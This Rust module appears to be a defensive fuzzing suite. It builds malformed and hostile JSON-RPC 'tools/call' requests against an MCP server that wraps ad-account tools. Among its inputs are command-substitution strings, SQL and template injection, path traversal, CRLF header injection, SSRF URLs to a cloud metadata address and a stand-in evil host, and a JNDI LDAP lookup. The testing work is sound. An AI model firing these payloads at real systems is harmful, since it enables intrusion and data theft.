//! Changes to the body of a request: its JSON, its message, what it names.

use serde_json::{Value, json};

use super::Hostile;
use super::raw::Raw;

pub fn all() -> Vec<Hostile> {
    let mut found = Vec::new();
    for (era, raw) in [("modern", Raw::modern()), ("legacy", Raw::legacy())] {
        let mut put = |what: &str, body: Vec<u8>| {
            let mut changed = raw.clone();
            changed.body = body;
            found.push(Hostile {
                what: format!("{era}: {what}"),
                bytes: changed.bytes(),
            });
        };
        keys(&raw.text(), &mut put);
        json_of_all_kinds(&raw.text(), &mut put);
        messages(&raw.text(), &mut put);
    }
    tools(&mut found);
    arguments(&mut found);
    found
}

/// CVE-2026-27896: two readers that take different values for one key.
fn keys(text: &str, put: &mut impl FnMut(&str, Vec<u8>)) {
    for key in [
        "jsonrpc",
        "id",
        "method",
        "params",
        "name",
        "arguments",
        "limit",
        "_meta",
        "io.modelcontextprotocol/protocolVersion",
        "io.modelcontextprotocol/clientCapabilities",
    ] {
        let own = format!("\"{key}\":");
        if !text.contains(&own) {
            continue;
        }
        for value in ["null", "1", "\"x\"", "{}", "\"2.0\""] {
            put(
                &format!("{key} doubled by {value}"),
                text.replacen(&own, &format!("\"{key}\":{value},{own}"), 1)
                    .into(),
            );
        }
        let escaped: String = key
            .chars()
            .map(|one| format!("\\u{:04x}", u32::from(one)))
            .collect();
        put(
            &format!("{key} doubled in escapes"),
            text.replacen(&own, &format!("\"{escaped}\":1,{own}"), 1)
                .into(),
        );
        for variant in variants(key) {
            put(
                &format!("{key} beside {variant}"),
                text.replacen(&own, &format!("\"{variant}\":1,{own}"), 1)
                    .into(),
            );
            put(
                &format!("{key} as {variant}"),
                text.replacen(&own, &format!("\"{variant}\":"), 1).into(),
            );
        }
    }
}

/// The same key to a reader who ignores case.
fn variants(key: &str) -> Vec<String> {
    let mut first = key.to_owned();
    if let Some(start) = first.find(|one: char| one.is_ascii_alphabetic()) {
        first[start..=start].make_ascii_uppercase();
    }
    let all = [
        key.to_uppercase(),
        first,
        key.replace('s', "\u{17f}"),
        key.replace('k', "\u{212a}"),
    ];
    all.into_iter().filter(|variant| variant != key).collect()
}

fn json_of_all_kinds(text: &str, put: &mut impl FnMut(&str, Vec<u8>)) {
    for length in 0..text.len() {
        put(
            &format!("cut off at {length}"),
            text.as_bytes()[..length].to_vec(),
        );
    }
    for (what, before, after) in [
        ("a BOM", "\u{feff}", ""),
        ("a NUL before", "\0", ""),
        ("a NUL behind", "", "\0"),
        ("a second message", "", "{}"),
        ("the message twice", text, ""),
        ("a batch", "[", "]"),
        ("a batch of two", "[{},", "]"),
        ("a comment", "/* */", ""),
        ("a comment behind", "", "// x"),
        ("a trailing comma", "", ","),
        ("an XSSI guard", ")]}'\n", ""),
        ("a record separator", "\u{1e}", ""),
        ("an array around", "[[", "]]"),
        ("a string around", "\"", "\""),
        ("a no-break space", "\u{a0}", ""),
        ("a form feed", "\u{c}", ""),
    ] {
        put(what, format!("{before}{text}{after}").into());
    }
    let wide = |order: fn(u16) -> [u8; 2]| text.encode_utf16().flat_map(order).collect::<Vec<u8>>();
    put("UTF-16 LE", wide(u16::to_le_bytes));
    put("UTF-16 BE", wide(u16::to_be_bytes));
    put("single quotes", text.replace('"', "'").into());
    put("bare keys", text.replace("\"method\"", "method").into());
    put("invalid UTF-8", [text.as_bytes(), b"\xff"].concat());
    put(
        "invalid UTF-8 inside",
        text.as_bytes()
            .iter()
            .flat_map(|byte| {
                if *byte == b'1' {
                    vec![0xc0, 0xaf]
                } else {
                    vec![*byte]
                }
            })
            .collect(),
    );
    put(
        "more than may be",
        format!("{text}{}", " ".repeat(1 << 20)).into(),
    );
    for depth in [40, 64, 127, 128, 129, 1_000, 100_000] {
        let nested = format!("{}1{}", "[".repeat(depth), "]".repeat(depth));
        put(
            &format!("{depth} deep"),
            text.replace("\"limit\":2", &format!("\"limit\":2,\"deep\":{nested}"))
                .into(),
        );
        let nested = format!("{}1{}", "{\"a\":".repeat(depth), "}".repeat(depth));
        put(
            &format!("{depth} objects deep"),
            text.replace("\"limit\":2", &format!("\"limit\":2,\"deep\":{nested}"))
                .into(),
        );
    }
    for number in [
        "9007199254740993",
        "18446744073709551616",
        "1e400",
        "-1e400",
        "1e308",
        "NaN",
        "Infinity",
        "-Infinity",
        "0x10",
        "01",
        "+1",
        ".5",
        "1.",
        "1e",
        "--1",
        "1_000",
        "2n",
        "true",
        "null",
        "\"2\"",
        "[2]",
        "{}",
        "2.5",
        "-1",
        "0",
        "101",
        "99999999999999999999999999999999999999",
    ] {
        put(
            &format!("limit {number}"),
            text.replace("\"limit\":2", &format!("\"limit\":{number}"))
                .into(),
        );
    }
}

fn messages(text: &str, put: &mut impl FnMut(&str, Vec<u8>)) {
    let good: Value = serde_json::from_str(text).unwrap();
    let mut set = |pointer: &str, value: Value| {
        let mut changed = good.clone();
        *changed.pointer_mut(pointer).unwrap() = value.clone();
        put(&format!("{pointer} {value}"), changed.to_string().into());
    };
    for value in [
        json!("1.0"),
        json!("2"),
        json!(2),
        json!(2.0),
        json!(null),
        json!(["2.0"]),
        json!("2.0 "),
        json!(""),
    ] {
        set("/jsonrpc", value);
    }
    for value in [
        json!(null),
        json!(true),
        json!({}),
        json!([]),
        json!([1]),
        json!(1.5),
        json!(-1.25),
    ] {
        set("/id", value);
    }
    for value in [
        json!(null),
        json!(1),
        json!([]),
        json!({}),
        json!(""),
        json!("tools/Call"),
        json!("TOOLS/CALL"),
        json!("tools/call "),
        json!("tools/call\0"),
        json!("tools//call"),
        json!("tools.call"),
        json!("rpc.discover"),
        json!("__proto__"),
        json!("toolſ/call"),
        json!("tools/call/x"),
        json!("eval"),
    ] {
        set("/method", value);
    }
    for value in [
        json!(null),
        json!(1),
        json!("x"),
        json!([]),
        json!(["meta_list_ad_accounts"]),
        json!({}),
    ] {
        set("/params", value);
    }
    for value in [
        json!(1),
        json!("x"),
        json!([]),
        json!([1]),
        json!(true),
        json!("{}"),
        json!({"limit": 2, "__proto__": {}}),
        json!({"constructor": 1}),
    ] {
        set("/params/arguments", value);
    }
    for member in [
        "result",
        "error",
        "extra",
        "batch",
        "__proto__",
        "toString",
        "jsonRpc",
        "iD",
        "auth",
        "headers",
    ] {
        let mut changed = good.clone();
        changed[member] = json!({});
        // A call that carries a result as well is a call to one reader only.
        put(&format!("with {member}"), changed.to_string().into());
    }
}

fn tools(found: &mut Vec<Hostile>) {
    for name in [
        "",
        " ",
        "meta_list_ad_accounts ",
        " meta_list_ad_accounts",
        "META_LIST_AD_ACCOUNTS",
        "Meta_list_ad_accounts",
        "meta_liſt_ad_accounts",
        "meta_list_ad_accounts\0",
        "meta_list_ad_accounts\n",
        "meta-list-ad-accounts",
        "meta.list_ad_accounts",
        "meta/list_ad_accounts",
        "../meta_list_ad_accounts",
        "meta_list_ad_accounts/..",
        "meta_list_ad_accounts;x",
        "meta_list_ad_accounts' OR '1'='1",
        "$(id)",
        "`id`",
        "{{7*7}}",
        "%s%s%n",
        "__proto__",
        "constructor",
        "meta_update_campaign",
        "meta_set_budget",
        "google_query",
        "mеta_list_ad_accounts",
        "meta_list_ad_accounts\u{200b}",
        "\u{202e}meta",
        "call",
        "*",
        "meta_*",
        "shell",
        "exec",
        "fetch",
    ] {
        let mut raw = Raw::legacy();
        raw.body = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": name, "arguments": {}}}).to_string().into();
        found.push(Hostile {
            what: format!("the tool `{}`", name.escape_debug()),
            bytes: raw.bytes(),
        });
    }
}

/// CVE-2026-26118, CVE-2026-12798, CVE-2026-5323, GHSA-wmg3-h8mf-wgvr,
/// CVE-2026-5322: what a name in the arguments may do to a path, a host, a
/// command or a query.
fn arguments(found: &mut Vec<Hostile>) {
    for account in [
        "",
        " ",
        "act_2001",
        "act_1001 ",
        " act_1001",
        "ACT_1001",
        "act_1001\0",
        "act_1001\n",
        "act_1001\r\nHost: evil",
        "act_1001/../act_2001",
        "act_1001/../../me",
        "../act_1001",
        "act_1001?access_token=x",
        "act_1001#",
        "act_1001%2f..",
        "act_1001%00",
        "act_1001&fields=x",
        "act_1001,act_2001",
        "act_1001;id",
        "act_1001|id",
        "$(id)",
        "`id`",
        "act_1001' OR '1'='1",
        "act_1001\" OR \"\"=\"",
        "1 OR 1=1",
        "1001",
        "act_",
        "act_-1",
        "act_1e3",
        "act_01001",
        "act_1001.0",
        "act_１００１",
        "act_1001\u{200b}",
        "http://169.254.169.254/latest/meta-data",
        "http://localhost:8001/api",
        "https://evil.example/",
        "//evil.example",
        "file:///etc/passwd",
        "gopher://evil",
        "http://[::1]/",
        "http://0x7f000001/",
        "http://evil@localhost/",
        "me",
        "me/adaccounts",
        "self",
        "*",
        "null",
        "undefined",
        "NaN",
        "true",
        "{}",
        "[]",
        "__proto__",
        "%s",
        "{{7*7}}",
        "${jndi:ldap://evil}",
        "<script>",
        "--help",
        "-oProxyCommand=x",
    ] {
        for tool in ["meta_list_campaigns", "meta_get_insights"] {
            let mut raw = Raw::legacy();
            let params = json!({"name": tool, "arguments": {"account": account}});
            raw.body = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params})
                .to_string()
                .into();
            found.push(Hostile {
                what: format!("{tool} of `{}`", account.escape_debug()),
                bytes: raw.bytes(),
            });
        }
    }
    for value in [
        json!(null),
        json!(1),
        json!(1001),
        json!(true),
        json!([]),
        json!(["act_1001"]),
        json!({}),
        json!({"$ne": null}),
        json!("x".repeat(100_000)),
    ] {
        let mut raw = Raw::legacy();
        let params = json!({"name": "meta_list_campaigns", "arguments": {"account": value}});
        raw.body = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params})
            .to_string()
            .into();
        found.push(Hostile {
            what: format!("an account of another kind, {value:.40}"),
            bytes: raw.bytes(),
        });
    }
}
